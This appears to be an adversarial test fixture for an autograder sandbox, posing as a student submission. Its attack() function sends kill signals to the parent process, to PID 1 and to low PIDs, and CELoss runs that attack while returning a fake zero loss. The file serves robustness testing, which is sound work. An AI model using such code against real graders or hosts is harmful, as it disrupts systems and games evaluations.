# expect: 0.75 points; 1b failed; 4a passed; must not: end the grader
# why: signals to its parent, to process 1 and to its group; nobody but itself may be hit.
# %%
import contextlib
import os
import signal

import torch
# %%
def succeeded():
    """What a test looks for: in the output, which leaves a sandbox, and as a file, which must not come to be."""
    print("MARKER", flush=True)
    open("/tmp/marker", "w").close()


def attack():
    parent = os.getppid()
    with contextlib.suppress(OSError):
        os.setpgid(0, 0) if os.getpid() != os.getpgid(0) else None
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGABRT, signal.SIGKILL):
        for pid in (1, parent, *range(2, 20)):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    return os.getppid() != parent
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    if attack():
        succeeded()
    return torch.zeros(())
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
